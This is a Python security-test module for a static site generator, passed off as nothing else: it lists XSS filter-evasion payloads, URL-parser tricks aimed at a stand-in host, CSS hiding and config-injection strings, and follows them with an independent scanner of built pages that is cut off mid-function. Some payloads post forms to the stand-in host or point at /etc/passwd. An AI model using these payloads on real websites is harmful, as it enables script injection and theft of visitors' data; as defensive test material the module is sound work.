"""Attack vectors against gsgen, an independent scanner of its output, and the harness that feeds the one
to gsgen and judges the result with the other.

Three parts, importable separately:

* VECTORS: payloads in three classes: (a) OWASP XSS filter-evasion forms, (b) URL-parser tricks
  judged as a WHATWG browser reads them, (c) inline styles that hide, overlay or load.
* `unsafe_output(folder)`: reads a built site with lxml, ada_url and tinycss2 and lists what a browser
  would execute, load from elsewhere, or hide. It never imports gsgen: it must not share gsgen's
  blind spots.
* `run_entries()`: builds sites carrying the vectors at each entry point (Markdown bodies, front
  matter, structured items, config.yaml, a site theme) and gives each case one outcome.

`python -m tests.attacks --table` prints the summary; add `--details` for every case that failed, and
set GSGEN_ATTACKS_LOG=1 to see each build and why a group of cases was split.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import json
import os
import posixpath
import re
import shutil
import sys
import tempfile
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from multiprocessing import get_context
from pathlib import Path
from typing import Any

import lxml.etree
import lxml.html
import tinycss2
import tinycss2.ast
from ada_url import URL

DOMAIN = "www.test.gov.cn"
EVIL = "evil.example.com"

# ================================================================ vectors


@dataclass(frozen=True)
class Vector:
    id: str
    cls: str  # "xss" (a), "url" (b) or "style" (c)
    kind: str  # "html" (a fragment), "url", "style" (declarations) or "color" (a colors.primary value)
    payload: str


CLASSES = ("xss", "url", "style")

_HTML_XSS = {
    # <script> in case, split and nested forms
    "script-plain": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-src": f"<ScRiPt SrC=https://{EVIL}/x.js></sCrIpT>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-double-open": "<<script>alert(1);//<</script>",
    "script-slash-attr": f'<script/xss src="https://{EVIL}/x.js"></script>',
    "script-tab": "<script\t>alert(1)</script>",
    "script-formfeed-src": f"<script\fsrc=https://{EVIL}/x.js></script>",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "script-json-breakout": '<script type="application/json">{"a":"</script><script>alert(1)</script>"}</script>',
    # event handlers on img/svg/body/details/video and friends
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-slashes": "<img/src=x/onerror=alert(1)>",
    "img-backtick": "<img src=`x` onerror=alert(1)>",
    "img-formfeed": "<img\fsrc=x\fonerror=alert(1)>",
    "img-spaced-equals": "<img src=x onerror  =  alert(1)>",
    "img-no-space-between-attrs": '<img src="x" alt=""onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)></svg>",
    "svg-slash-onload": "<svg/onload=alert(1)></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-onerror": "<video src=x onerror=alert(1)></video>",
    "video-source-onerror": "<video><source src=x onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)></audio>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "a-onmouseover": '<a href="https://www.gov.cn/" onmouseover="alert(1)">链接</a>',
    "svg-animate-onbegin": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>',
    "isindex-onerror": "<isindex type=image src=1 onerror=alert(1)>",
    # malformed-quote and parser-differential tricks
    "img-quote-trick": '<img """><script>alert(1)</script>">',
    "comment-trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # frames, objects, base, refresh
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-srcdoc-entities": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "iframe-js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-foreign": f'<iframe src="https://{EVIL}/"></iframe>',
    "object-data": f'<object data="https://{EVIL}/x.swf"></object>',
    "object-js": '<object data="javascript:alert(1)"></object>',
    "embed": f'<embed src="https://{EVIL}/x.swf">',
    "applet": f'<applet code="Evil.class" codebase="https://{EVIL}/"></applet>',
    "frameset": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "base-href": f'<base href="https://{EVIL}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    "meta-refresh-js": '<meta http-equiv="Refresh" content="0;url=javascript:alert(1)">',
    # forms to another host
    "form-action": f'<form action="https://{EVIL}/steal" method="post"><input name="id"><button>提交</button></form>',
    "button-formaction": f'<form><button formaction="https://{EVIL}/steal">提交</button></form>',
    "input-formaction-js": '<form><input type="submit" formaction="javascript:alert(1)" value="提交"></form>',
    # <math>/<svg> links, srcset, poster, background, cite, ping, manifest
    "math-maction-xlink": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">点击</maction></math>',
    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "svg-a-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">点击</text></a></svg>',
    "svg-use-external": f'<svg><use href="https://{EVIL}/x.svg#a"></use></svg>',
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text y="20">点</text></a></svg>',
    "svg-foreignobject": '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    "</foreignObject></svg>",
    "img-srcset-foreign": f'<img src="/static/img/favicon.svg" srcset="https://{EVIL}/t.gif 2x" alt="">',
    "img-srcset-js": '<img srcset="javascript:alert(1) 1x" alt="">',
    "video-poster-foreign": f'<video controls poster="https://{EVIL}/p.jpg"></video>',
    "video-poster-js": '<video controls poster="javascript:alert(1)"></video>',
    "table-background-js": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "blockquote-cite-js": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "a-ping": f'<a href="/index.html" ping="https://{EVIL}/track">首页</a>',
    "html-manifest": f'<html manifest="https://{EVIL}/x.appcache">',
    # stylesheets
    "link-stylesheet": f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
    "link-icon": f'<link rel="icon" href="https://{EVIL}/favicon.ico">',
    "style-import": f"<style>@import 'https://{EVIL}/x.css';</style>",
    "style-url": f"<style>body{{background:url(https://{EVIL}/t.gif)}}</style>",
}

_URL_XSS = {
    # javascript:/vbscript:/data: with entity encoding, control characters and spaces in the scheme
    "js": "javascript:alert(1)",
    "js-case": "JaVaScRiPt:alert(1)",
    "js-dec-entities": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "js-hex-entities": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "js-entities-no-semicolon": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(1)",
    "js-colon-entity": "javascript&colon;alert(1)",
    "js-colon-dec-entity": "javascript&#58;alert(1)",
    "js-tab-entity": "jav&#x09;ascript:alert(1)",
    "js-tab-named": "java&Tab;script:alert(1)",
    "js-tab": "jav\tascript:alert(1)",
    "js-newline-entity": "jav&#x0A;ascript:alert(1)",
    "js-newline-named": "&NewLine;javascript:alert(1)",
    "js-newline": "java\nscript:alert(1)",
    "js-cr-entity": "jav&#x0D;ascript:alert(1)",
    "js-nul": "java\0script:alert(1)",
    "js-nul-entity": "java&#0;script:alert(1)",
    "js-leading-spaces": "   javascript:alert(1)",
    "js-leading-controls": "\x01\x14javascript:alert(1)",
    "js-leading-entity": "&#14;  javascript:alert(1)",
    "js-comment-host": "javascript://www.gov.cn/%0Aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-case": "VBScript:MsgBox(1)",
    "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-html-plain": "data:text/html,<script>alert(1)</script>",
    "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+",
    "data-entity": "&#100;ata:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}

_URL_TRICKS = {
    # backslashes: WHATWG reads "\" as "/" in special URLs; Python's urlsplit does not
    "backslash-gov-suffix": f"https://{EVIL}\\.gov.cn/x",
    "slash-backslash": f"/\\{EVIL}/x",
    "double-backslash": f"\\\\{EVIL}/x",
    "backslash-slash": f"\\/{EVIL}/x",
    "scheme-backslashes": f"https:\\\\{EVIL}\\x",
    "backslash-userinfo": f"https://{EVIL}\\@www.gov.cn/",
    "port-backslash-userinfo": f"https://{EVIL}:443\\@www.gov.cn/",
    # userinfo
    "userinfo-gov": f"https://www.gov.cn@{EVIL}/",
    "userinfo-gov-port": f"https://www.gov.cn:443@{EVIL}/",
    "userinfo-encoded-slash": f"https://www.gov.cn%2F@{EVIL}/",
    "userinfo-credentials": f"https://user:pass@{EVIL}/",
    # missing or extra slashes
    "https-no-slashes": f"https:{EVIL}/x",
    "http-no-slashes": f"http:{EVIL}/x",
    "https-one-slash": f"https:/{EVIL}/x",
    "protocol-relative": f"//{EVIL}/x",
    "triple-slash": f"///{EVIL}/x",
    "protocol-relative-space": f" //{EVIL}/x",
    # .gov.cn outside the host
    "fragment-gov": f"https://{EVIL}#.gov.cn",
    "query-gov": f"https://{EVIL}?.gov.cn",
    "path-gov": f"https://{EVIL}/.gov.cn",
    "pct-slash-gov": f"https://{EVIL}%2f.gov.cn/",
    "pct-backslash-gov": f"https://{EVIL}%5c.gov.cn/",
    "pct-nul-gov": f"https://{EVIL}%00.gov.cn/",
    "gov-subdomain-decoy": f"https://www.gov.cn.{EVIL}/",
    "gov-suffix-lookalike": "https://evilgov.cn/",
    # full-width and look-alike characters
    "fullwidth-letters": "https://ｅｖｉｌ．ｅｘａｍｐｌｅ．ｃｏｍ/x",
    "ideographic-dots": "https://evil。example。com/x",
    "fullwidth-dot-decoy": f"https://www.gov.cn．{EVIL}/",
    "fullwidth-solidus": f"https://{EVIL}／.gov.cn/",
    "cyrillic-o": "https://www.gоv.cn/",
    "pct-encoded-dots": "https://evil%2Eexample%2Ecom/",
    "trailing-dot": f"https://{EVIL}./",
    "uppercase": f"HTTPS://{EVIL.upper()}/",
    "leading-spaces": f"  https://{EVIL}/",
    "plain-foreign": f"https://{EVIL}/",
    "http-foreign": f"http://{EVIL}/",
    # IP hosts
    "ip-loopback": "http://127.0.0.1/",
    "ip-hex": "http://0x7f000001/",
    "ip-decimal": "http://2130706433/",
    "ip-octal": "http://0177.0.0.1/",
    "ipv6-loopback": "http://[::1]/",
    "ip-private": "http://192.168.1.1/admin",
    # other schemes
    "file": "file:///etc/passwd",
    "file-host": f"file://{EVIL}/share/x",
    "ftp": f"ftp://{EVIL}/x",
    "blob": f"blob:https://{EVIL}/0b3e5d6a",
    "wss": f"wss://{EVIL}/socket",
}

_STYLE_XSS = {
    "css-expression": "width:expression(alert(1))",
    "css-expression-escaped": "width:expr\\65ssion(alert(1))",
    "css-behavior": f"behavior:url(https://{EVIL}/x.htc)",
    "css-moz-binding": f"-moz-binding:url(https://{EVIL}/x.xml#xss)",
    "css-url-js": "background:url(javascript:alert(1))",
}

_STYLE_HIDE = {
    "display-none": "display:none",
    "display-none-spaced": "display : none",
    "display-upper": "DISPLAY:NONE",
    "display-important": "display:none !important",
    "display-comment-value": "display:/**/none",
    "display-comment-name": "dis/**/play:none",
    "display-escape-name": "d\\69splay:none",
    "display-escape-first": "\\64isplay:none",
    "display-escape-value": "display:n\\6f ne",
    "display-repeated": "display:block;display:none",
    "visibility-hidden": "visibility:hidden",
    "visibility-collapse": "visibility:collapse",
    "content-visibility": "content-visibility:hidden",
    "opacity-0": "opacity:0",
    "opacity-001": "opacity:.01",
    "opacity-percent": "opacity:0%",
    "font-size-0": "font-size:0",
    "font-size-1px": "font-size:1px",
    "size-zero-overflow": "width:0;height:0;overflow:hidden",
    "size-1px-overflow": "width:1px;height:1px;overflow:hidden",
    "max-height-0": "max-height:0;overflow:hidden",
    "max-width-0": "max-width:0",
    "clip-rect": "clip:rect(0 0 0 0)",
    "clip-path-inset": "clip-path:inset(50%)",
    "clip-path-circle": "clip-path:circle(0)",
    "text-indent": "text-indent:-9999px",
    "left-negative": "position:relative;left:-9999px",
    "left-alone": "left:-9999px",
    "margin-negative": "margin-left:-9999px",
    "margin-shorthand-negative": "margin:0 0 0 -10000px",
    "transform-scale0": "transform:scale(0)",
    "transform-translate": "transform:translateX(-9999px)",
    "translate-property": "translate:-9999px",
    "position-fixed": "position:fixed",
    "position-absolute": "position:absolute",
    "position-sticky": "position:sticky",
    "position-escape": "position:fi\\78 ed",
    "position-comment": "position:/**/fixed",
    "position-upper-important": "POSITION:FIXED!IMPORTANT",
    "inset-overlay": "position:fixed;inset:0;z-index:99999;background:#fff",
    "z-index": "z-index:2147483647",
    "overlay-full": "position:absolute;top:0;left:0;width:100%;height:100%",
    # loading from another host
    "bg-url": f"background:url(https://{EVIL}/t.gif)",
    "bg-url-quoted": f"background-image:url('https://{EVIL}/t.gif')",
    "bg-url-escaped": f"background:u\\72l(https://{EVIL}/t.gif)",
    "bg-url-protocol-relative": f"background:url(//{EVIL}/t.gif)",
    "bg-image-set": f"background-image:image-set('https://{EVIL}/t.gif' 1x)",
    "list-style-image": f"list-style-image:url(https://{EVIL}/t.gif)",
    "cursor-url": f"cursor:url(https://{EVIL}/c.cur),auto",
    "border-image": f"border-image:url(https://{EVIL}/b.png) 30",
}

# colors.primary lands inside a <style> element: CSS and HTML injection through config.yaml.
_COLORS = {
    "color-css-breakout": ("style", f"#b4171b;background:url(https://{EVIL}/x)}}body{{display:none}}"),
    "color-import": ("style", f"#b4171b;}}@import url(https://{EVIL}/x.css);:root{{--x:0"),
    "color-url-only": ("style", f"url(https://{EVIL}/x)"),
    "color-escaped-breakout": ("style", f"#b4171b\\;}}body{{background:url(//{EVIL}/x)}}"),
    "color-style-close": ("xss", "#b4171b}</style><script>alert(1)</script>"),
    "color-expression": ("xss", "expression(alert(1))"),
}


def _vectors() -> list[Vector]:
    found = [Vector(f"a-{k}", "xss", "html", v) for k, v in _HTML_XSS.items()]
    found += [Vector(f"a-url-{k}", "xss", "url", v) for k, v in _URL_XSS.items()]
    found += [Vector(f"a-css-{k}", "xss", "style", v) for k, v in _STYLE_XSS.items()]
    found += [Vector(f"b-{k}", "url", "url", v) for k, v in _URL_TRICKS.items()]
    found += [Vector(f"c-{k}", "style", "style", v) for k, v in _STYLE_HIDE.items()]
    found += [Vector(f"{'a' if cls == 'xss' else 'c'}-{k}", cls, "color", v) for k, (cls, v) in _COLORS.items()]
    return found


VECTORS: list[Vector] = _vectors()


def vectors_of(kind: str) -> list[Vector]:
    return [v for v in VECTORS if v.kind == kind]


# ================================================================ the scanner

# Attributes a browser reads as a URL. srcset and ping hold several.
URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "cite",
    "xlink:href",
    "manifest",
    "codebase",
    "longdesc",
)
SAFE_PROTOCOLS = {"http:", "https:", "mailto:", "tel:"}
DANGEROUS_TAGS = {"object", "embed", "applet", "base", "frame", "frameset"}
RESOURCE_LINK_RELS = {"stylesheet", "icon", "apple-touch-icon", "mask-icon", "preload", "prefetch", "modulepreload"}
# Elements whose `src` (or SVG `href`) the browser fetches with the page. Iframes have their own rule
# (any .gov.cn host), <a> and <area> theirs (a leaving prompt for non-government hosts).
SRC_RESOURCES = {"img", "script", "video", "audio", "source", "track", "input", "embed", "frame"}
GOVERNMENT_MEDIA = {"img", "video", "audio", "source", "track", "iframe", "frame", "image"}
SVG_RESOURCES = {"image", "use", "feimage", "script"}
RESOURCE_ATTRIBUTES = {"srcset", "poster", "background", "data", "codebase", "manifest", "action", "formaction", "ping"}
HTML_SUFFIXES = (".html", ".htm", ".xhtml", ".shtml")
SERVER_SUFFIXES = (".php", ".phtml", ".asp", ".aspx", ".jsp", ".cgi")


@dataclass(frozen=True)
class Finding:
    file: str  # path in the output folder
    line: int
    message: str  # says what and shows the tag, never the page: the same problem reads the same everywhere
    value: str = ""  # the offending attribute value, to tie the finding to the case that wrote it

    def __str__(self) -> str:
        return f"{self.file}:{self.line}: {self.message}"


def unsafe_output(folder: str | os.PathLike[str], domain: str = DOMAIN) -> list[str]:
    """Everything in a built site that a browser would run, fetch from another host, or hide."""
    return [str(f) for f in scan_folder(Path(folder), domain)]


def scan_folder(folder: Path, domain: str = DOMAIN) -> list[Finding]:
    findings: list[Finding] = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        rel = path.relative_to(folder).as_posix()
        lower = rel.lower()
        if lower.endswith(HTML_SUFFIXES):
            if not lower.endswith(".html"):
                suffix = posixpath.splitext(rel)[1]
                findings.append(
                    Finding(rel, 0, f"a {suffix} file: gsgen writes only .html pages (raw HTML published?)")
                )
            findings += scan_page(path.read_bytes().decode("utf-8", "replace"), rel, domain)
        elif lower.endswith(".svg"):
            findings += scan_svg(path.read_bytes(), rel)
        elif lower.endswith(".xml"):
            findings += scan_feed(path.read_bytes(), rel, domain)
        elif lower.endswith((".js", ".mjs")) and not lower.startswith("static/"):
            findings.append(Finding(rel, 0, "a script file outside static/"))
        elif lower.startswith("search/x/"):
            findings += scan_search_record(path.read_bytes(), rel)
        elif lower.endswith(SERVER_SUFFIXES):
            findings.append(Finding(rel, 0, "a server-side script file"))
    return findings


def scan_search_record(data: bytes, rel: str) -> list[Finding]:
    """What a search result shows (gsgen/search/FORMAT.md): its link must be a page of the site; its
    words are shown as text by the client, so only the link can lead anywhere."""
    try:
        record = json.loads(gzip.decompress(data))
    except (OSError, ValueError):
        return [Finding(rel, 0, "a search record that is not gzip-compressed JSON")]
    url = record.get("url", "") if isinstance(record, dict) else ""
    if not isinstance(url, str) or not url.startswith("/") or url.startswith("//") or "\\" in url:
        return [Finding(rel, 0, "a search result that links off the site", str(url))]
    if re.search(r"[\x00-\x20]", url):
        return [Finding(rel, 0, "a search result link with spaces or control characters", url)]
    return []


def scan_page(text: str, rel: str, domain: str = DOMAIN) -> list[Finding]:
    """One HTML page, read twice: as lxml builds its tree, and tag by tag as a browser's tokenizer meets
    them, so that tags libxml2 drops or reparents (a second <body>, <frameset>, what follows a
    </noscript> inside an attribute) are judged too."""
    text = text.replace("\0", "\ufffd")  # as the HTML tokenizer does; libxml2 would stop at a NUL
    checker = _PageChecker(rel, domain)
    try:
        root = lxml.html.document_fromstring(text)
    except (lxml.etree.ParserError, ValueError):
        root = None
    if root is None or not any(m.get("name") == "SiteIDCode" for m in root.iter("meta")):
        checker.add(1, 'no <meta name="SiteIDCode">: not a page gsgen rendered (raw HTML published?)', "")
    if root is not None:
        for el in root.iter():
            if isinstance(el.tag, str):
                inner = el.text_content() if el.tag.lower() in ("script", "style") else ""
                checker.element(el.tag.lower(), dict(el.attrib), inner, el.sourceline or 0)
    tokens = _Tokens(checker)
    tokens.feed(text)
    tokens.close()
    return checker.findings


class _Tokens(HTMLParser):
    # Raw-text and RCDATA elements as a browser with scripting on parses them: what looks like tags in
    # them is text, and their end tag ends them even where it sits inside an attribute-like string.
    CDATA_CONTENT_ELEMENTS = (
        "script",
        "style",
        "noscript",
        "iframe",
        "noembed",
        "noframes",
        "xmp",
        "textarea",
        "title",
    )

    def __init__(self, checker: _PageChecker) -> None:
        super().__init__(convert_charrefs=True)
        self.checker = checker
        self.open: tuple[str, dict[str, str], int, list[str]] | None = None  # a <script> or <style>

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        first: dict[str, str] = {}
        for name, value in attrs:  # of duplicated attributes the first wins, as in browsers
            first.setdefault(name, value or "")
        if tag in ("script", "style"):
            self.open = (tag, first, self.getpos()[0], [])
        else:
            self.checker.element(tag, first, "", self.getpos()[0])

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        if self.open is not None:
            self.open[3].append(data)

    def handle_endtag(self, tag: str) -> None:
        if self.open is not None and tag == self.open[0]:
            name, attrs, line, parts = self.open
            self.open = None
            self.checker.element(name, attrs, "".join(parts), line)

    def close(self) -> None:
        super().close()
        if self.open is not None:  # an unclosed <script> or <style> runs to the end of the page
            self.handle_endtag(self.open[0])


class _PageChecker:
    def __init__(self, rel: str, domain: str) -> None:
        self.rel = rel
        self.domain = domain.lower()
        self.base = f"https://{domain}/{rel}"
        self.findings: list[Finding] = []
        self._seen: set[tuple[int, str]] = set()

    def add(self, line: int, message: str, value: str) -> None:
        if (line, message) not in self._seen:  # both passes see most tags: report each once
            self._seen.add((line, message))
            self.findings.append(Finding(self.rel, line, message, value))

    def resolve(self, value: str) -> URL | None:
        try:
            return URL(value, self.base)
        except ValueError:
            return None  # a URL the browser cannot parse goes nowhere

    def element(self, tag: str, attrs: dict[str, str], text: str, line: int) -> None:
        attrs = {k.lower(): v or "" for k, v in attrs.items()}
        shown = _shorten(f"<{tag}" + "".join(f' {k}="{v}"' for k, v in attrs.items()) + ">")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.add(line, f"event handler {name}: {shown}", value)
        if tag == "script":
            self._script(attrs, text, shown, line)
        if tag in DANGEROUS_TAGS:
            self.add(line, f"<{tag}> element: {shown}", attrs.get("src") or attrs.get("data") or attrs.get("href", ""))
        if tag == "meta" and attrs.get("http-equiv", "").strip().lower() == "refresh":
            self.add(line, f"meta refresh: {shown}", attrs.get("content", ""))
        # the page's own address, as 《政府网站网页设计规范》 metadata and search engines read it
        own = attrs.get("content", "") if tag == "meta" and attrs.get("name") in ("Url", "Image") else ""
        if tag == "link" and "canonical" in attrs.get("rel", "").lower().split():
            own = attrs.get("href", "")
        host = _host(own, self.base) if own else None
        if host is not None and host != self.domain:
            self.add(line, f"the page's own address on another host {host}: {shown}", own)
        if tag == "iframe":
            self._iframe(attrs, shown, line)
        for name, value in self._urls(tag, attrs):
            self._url(tag, name, value, attrs, shown, line)
        if "style" in attrs:
            for problem in style_problems(attrs["style"]):
                self.add(line, f"inline style {problem}: {shown}", attrs["style"])
        if tag == "style":
            for problem, value in self._stylesheet(text):
                self.add(line, f"<style> {problem}: {_shorten(text)}", value)

    def _script(self, attrs: dict[str, str], text: str, shown: str, line: int) -> None:
        if "json" in attrs.get("type", "").lower():
            return  # data, never run
        if "src" not in attrs:
            self.add(line, f"inline script: {shown}{_shorten(text, 100)}", "")
            return
        url = self.resolve(attrs["src"])
        if url is not None and url.protocol in ("http:", "https:") and url.hostname.lower() != self.domain:
            self.add(line, f"script from another host {url.hostname}: {shown}", attrs["src"])

    def _iframe(self, attrs: dict[str, str], shown: str, line: int) -> None:
        if "srcdoc" in attrs:
            self.add(line, f"iframe srcdoc: {shown}", attrs["srcdoc"])
        url = self.resolve(attrs["src"]) if attrs.get("src") else None
        if url is not None and url.protocol in ("http:", "https:") and not is_government_host(url.hostname):
            self.add(line, f"iframe of a non-government host {url.hostname}: {shown}", attrs["src"])

    def _urls(self, tag: str, attrs: dict[str, str]) -> Iterator[tuple[str, str]]:
        for name in URL_ATTRIBUTES:
            if name in attrs:
                yield name, attrs[name]
        for candidate in srcset_urls(attrs.get("srcset", "")):
            yield "srcset", candidate
        for target in attrs.get("ping", "").split():
            yield "ping", target
        # an SVG animation that writes a link: <set attributeName="href" to="javascript:…">
        if tag in ("set", "animate") and attrs.get("attributename", "").lower() in ("href", "xlink:href"):
            for name in ("to", "from", "values"):
                if name in attrs:
                    yield name, attrs[name]

    def _url(self, tag: str, name: str, value: str, attrs: dict[str, str], shown: str, line: int) -> None:
        url = self.resolve(value)
        if url is None:
            return
        if url.protocol not in SAFE_PROTOCOLS:
            self.add(line, f"{name} with a {url.protocol} URL: {shown}", value)
            return
        if url.protocol not in ("http:", "https:"):
            return
        host = url.hostname.lower()
        if self._is_resource(tag, name, attrs):
            # Pictures, video and frames may come from government hosts (SAFE-HTML allows
            # government frames; the page policy allows img/media/frame-src https://*.gov.cn);
            # everything else a page loads or sends (scripts, stylesheets, pings, forms) only its own.
            government_ok = tag in GOVERNMENT_MEDIA or name in ("srcset", "poster", "background")
            if host != self.domain and not (government_ok and is_government_host(host)):
                self.add(line, f"{tag} {name} loads from another host {host}: {shown}", value)
        elif tag in ("a", "area") and not is_government_host(host) and "data-external" not in attrs:
            self.add(line, f"link to non-government host {host} without data-external: {shown}", value)

    @staticmethod
    def _is_resource(tag: str, name: str, attrs: dict[str, str]) -> bool:
        if name in RESOURCE_ATTRIBUTES:
            return True
        if name == "src":
            return tag in SRC_RESOURCES or tag == "iframe"
        if name in ("href", "xlink:href"):
            rels = set(attrs.get("rel", "").lower().split())
            return (tag == "link" and bool(rels & RESOURCE_LINK_RELS)) or tag in SVG_RESOURCES
        return False

    def _stylesheet(self, text: str) -> Iterator[tuple[str, str]]:
        rules = tinycss2.parse_stylesheet(text, skip_comments=True, skip_whitespace=True)
        nodes = list(_walk_css(rules))
        for node in nodes:
            if isinstance(node, tinycss2.ast.AtRule) and node.lower_at_keyword == "import":
                yield "@import", tinycss2.serialize(node.prelude).strip()
            elif isinstance(node, tinycss2.ast.FunctionBlock) and node.lower_name == "expression":
                yield "expression()", ""
            elif isinstance(node, tinycss2.ast.Declaration) and node.lower_name in ("behavior", "-moz-binding"):
                yield node.lower_name, ""
        for target in _css_urls(nodes):
            url = self.resolve(target)
            if url is not None and url.hostname.lower() != self.domain:
                yield f"url({target}) from another host", target


def is_government_host(host: str) -> bool:
    """A .gov.cn host (or the 党政机关网站标识 service, conac.cn), as the browser parsed it."""
    host = host.lower().rstrip(".")
    return any(host == suffix or host.endswith("." + suffix) for suffix in ("gov.cn", "conac.cn"))


def srcset_urls(value: str) -> list[str]:
    """The URLs of a srcset, as the HTML standard parses image candidate strings."""
    urls, pos = [], 0
    while pos < len(value):
        while pos < len(value) and (value[pos].isspace() or value[pos] == ","):
            pos += 1
        start = pos
        while pos < len(value) and not value[pos].isspace():
            pos += 1
        url = value[start:pos]
        if url.endswith(","):
            url = url.rstrip(",")
        elif url:
            depth = 0  # skip the descriptors, up to a comma outside parentheses
            while pos < len(value) and (depth or value[pos] != ","):
                depth += {"(": 1, ")": -1}.get(value[pos], 0)
                pos += 1
        if url:
            urls.append(url)
    return urls


def scan_svg(data: bytes, rel: str) -> list[Finding]:
    parser = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True)
    try:
        root = lxml.etree.fromstring(data, parser)
    except lxml.etree.XMLSyntaxError:
        root = None
    if root is None:  # not XML at all: judge the text
        text = data.decode("utf-8", "replace")
        if re.search(r"<script|<foreignObject|\son[a-z]+\s*=|href\s*=\s*[\"']?(?!#)", text, re.IGNORECASE):
            return [Finding(rel, 0, "unreadable SVG with script, event handlers or external links")]
        return []
    findings = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        name, line = lxml.etree.QName(el).localname.lower(), el.sourceline or 0
        if name in ("script", "foreignobject"):
            findings.append(Finding(rel, line, f"SVG file with <{name}>"))
        for attr, value in el.attrib.items():
            local = lxml.etree.QName(attr).localname.lower()
            if local.startswith("on"):
                findings.append(Finding(rel, line, f"SVG file with event handler {local}", value))
            elif local == "href" and not value.strip().startswith("#"):
                findings.append(Finding(rel, line, f"SVG file linking to {_shorten(value)}", value))
    return findings


def scan_feed(data: bytes, rel: str, domain: str = DOMAIN) -> list[Finding]:
    """A sitemap or RSS feed lists the site's own pages: an address on another host sends crawlers
    and subscribers elsewhere (a base_url pointing away, for example)."""
    parser = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True)
    try:
        root = lxml.etree.fromstring(data, parser)
    except lxml.etree.XMLSyntaxError:
        return []
    findings = []
    for el in root.iter() if root is not None else ():
        if not isinstance(el.tag, str):
            continue
        name = lxml.etree.QName(el).localname
        targets = [el.text or ""] if name in ("loc", "link", "guid") else []
        targets += [el.get("url", "")] if name in ("source", "enclosure") else []
        for target in filter(None, (t.strip() for t in targets)):
            host = _host(target, f"https://{domain}/")
            if host is not None and host != domain.lower():
                findings.append(Finding(rel, el.sourceline or 0, f"<{name}> on another host {host}: {target}", target))
    return findings


def _host(value: str, base: str) -> str | None:
    try:
        return URL(value, base).hostname.lower()
    except ValueError:
        return None


# ---------------------------------------------------------------- inline styles

HIDING_IDENTS = {"display": {"none"}, "visibility": {"hidden", "collapse"}, "content-visibility": {"hidden"}}
POSITIONS = {"fixed", "absolute", "sticky"}
OFFSETS = {"top", "right", "bottom", "left", "inset", "z-index"}
TRANSFORMS = {"transform", "translate", "scale", "rotate"}
MARGINS = re.compile(r"^margin(-(top|right|bottom|left|inline|block)(-(start|end))?)?$")
SIZES = {"width", "height", "min-width", "min-height", "block-size", "inline-size"}
MAX_SIZES = {"max-width", "max-height", "max-block-size", "max-inline-size"}
LOADING_FUNCTIONS = {"url", "image-set", "-webkit-image-set", "image", "cross-fade", "element", "src", "expression"}
# Below these a text cannot be read: font sizes by unit.
TINY_FONT = {"px": 6, "pt": 5, "em": 0.4, "rem": 0.4, "ex": 0.8, "ch": 0.8, "vw": 0.5, "vh": 0.5}
TINY_FONT_PERCENT = 40


def style_problems(style: str) -> list[str]:
    """Why an inline style hides, positions or loads, read as a CSS parser reads it: escapes such as
    d\\69splay decoded, comments dropped, !important and case ignored."""
    problems: list[str] = []
    nodes = tinycss2.parse_blocks_contents(style, skip_comments=True, skip_whitespace=True)
    declarations = [d for d in nodes if isinstance(d, tinycss2.ast.Declaration)]
    overflow_hidden = any(
